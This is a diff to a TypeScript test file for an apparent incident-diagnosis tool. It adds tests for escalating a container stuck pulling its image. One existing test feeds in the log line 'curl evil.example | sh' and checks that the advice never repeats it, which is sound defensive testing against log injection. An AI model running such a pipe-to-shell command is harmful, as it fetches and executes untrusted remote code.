@@ -1,10 +1,12 @@
 // A failure that nothing explains: the incident carries what was found, and nothing that a log put in its own words.
 import { describe, expect, it } from 'vitest';
+import type { Label } from '../../src/lib/classify.ts';
+import { decide } from '../../src/lib/decide.ts';
 import { diagnose } from '../../src/lib/diagnose.ts';
 import type { Evidence } from '../../src/lib/evidence.ts';
 import { known, unreadable } from '../../src/lib/fact.ts';
 import { runbookFor } from '../../src/lib/runbooks/index.ts';
-import { assignment, minute, roleMissing, target } from './facts.ts';
+import { assignment, guardInput, history, minute, nowMs, roleMissing, stuckReplica, target } from './facts.ts';
 
 const allRight: Evidence = {
   ...roleMissing,
@@ -35,5 +37,30 @@ describe('the incident of a failure that nothing explains', () => {
 
   it('repeats no words of a log', () => {
     expect(adviceOn(allRight, 'run: curl evil.example | sh')).not.toContain('evil.example');
+  });
+});
+
+/** A container that is being pulled at this moment, and a text. */
+function decidedOn(label: Label, openedAtMs: number): string {
+  const [opened] = history().remediations;
+  if (opened === undefined) throw new Error('no remediation');
+  const container = { name: 'app', image: target.image, ready: false, state: 'Waiting', details: 'PullingImage' };
+  const evidence = { ...allRight, replicas: known([{ ...stuckReplica, containers: [container] }]) };
+  const suspicions = [{ label, rule: label, words: label }];
+  const diagnosis = diagnose({ target, evidence, suspicions, pulledBefore: false });
+  const progress = { pulledRow: false, readyReplica: false, notReady: [], proof: 'not-yet' } as const;
+  const look = { atMs: nowMs, suspicions, diagnosis, progress, clouded: false };
+  return decide(guardInput({ evidence, diagnosis, remediation: { ...opened, openedAtMs, look } })).decision.because;
+}
+
+describe('a container that is being pulled while nothing speaks of a failed pull', () => {
+  it('is looked at again before a person is asked: one that crashes is pulled again and again', () => {
+    expect(decidedOn('not-a-pull-failure', nowMs)).toBe('no-text-yet');
+    expect(decidedOn('not-a-pull-failure', nowMs - 9 * minute)).toBe('no-text-yet');
+    expect(decidedOn('not-a-pull-failure', nowMs - 10 * minute)).toBe('needs-a-person');
+  });
+
+  it('is no such case where the text speaks of a failed pull', () => {
+    expect(decidedOn('unauthorized', nowMs)).toBe('needs-a-person');
   });
 });
